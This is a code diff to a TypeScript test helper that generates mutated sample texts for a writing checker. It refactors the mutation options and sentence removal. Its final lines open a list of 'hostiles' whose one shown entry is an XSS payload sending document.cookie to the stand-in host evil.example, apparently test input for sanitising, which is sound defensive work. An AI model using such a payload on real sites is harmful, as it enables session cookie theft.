@@ -1,6 +1,7 @@
 import type { Remark } from '@tintario/contract/writing/findings.ts'
 import { isSameAmount, quantitiesIn } from '@tintario/prose/quantities.ts'
 import { sentencesOf } from '@tintario/prose/sentences.ts'
+import { applyFix } from '../../features/writing/checks/apply-fix.ts'
 import type { Checked } from '../../features/writing/checks/checked.ts'
 import { type Block, readText, tidy } from '../../features/writing/checks/read-text.ts'
 import { checkedOf } from './checked-of.ts'
@@ -47,11 +48,11 @@ const plainSentences = (checked: Checked, isFit: (block: Block) => boolean = () 
     .flatMap((block) => block.sentences)
     .filter((sentence) => checked.html.split(sentence).length === 2)
 
-export const mutationsOf = (text: GoodText, withClaims = true): Mutation[] => {
+export const mutationsOf = (text: GoodText, { withClaims = true, pools = planted } = {}): Mutation[] => {
   const base = checkedOf(text, { withClaims })
   const { language } = text
   const found: Mutation[] = []
-  const pool = planted[language]
+  const pool = pools[language]
   let random = randomOf(text.id)
   const pick = <T>(from: readonly T[], count: number): T[] => {
     const rest = [...from]
@@ -274,23 +275,8 @@ const plainSentencesWith = (checked: Checked, words: string): string =>
     .links.find((link) => link.text === words)
     ?.block?.sentences.find((sentence) => sentence.includes(words)) ?? words
 
-/** Takes a sentence with or without tags inside out of the HTML; a paragraph or heading that it was alone in goes too. */
-const withoutSentence = (html: string, sentence: string): string => {
-  for (const piece of html.split('\n')) {
-    const inner = piece.replace(/^<(p|li|h2|h3)>/, '').replace(/<\/(p|li|h2|h3)>$/, '')
-    if (plainOf(piece) === sentence) return html.replace(`${piece}\n`, '')
-    if (plainOf(piece).includes(sentence)) {
-      if (inner.includes(sentence)) return html.replace(sentence, '')
-      const first = sentence.slice(0, 8)
-      const from = inner.indexOf(first)
-      const last = sentence.slice(-4)
-      const to = inner.indexOf(last, from)
-      if (from >= 0 && to > from)
-        return html.replace(inner, () => inner.slice(0, from) + inner.slice(to + last.length))
-    }
-  }
-  return html
-}
+const withoutSentence = (html: string, sentence: string): string =>
+  applyFix(html, { check: 'must', sentence, heading: null, values: {}, fix: { act: 'remove' } })
 
 const hostiles = [
   '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
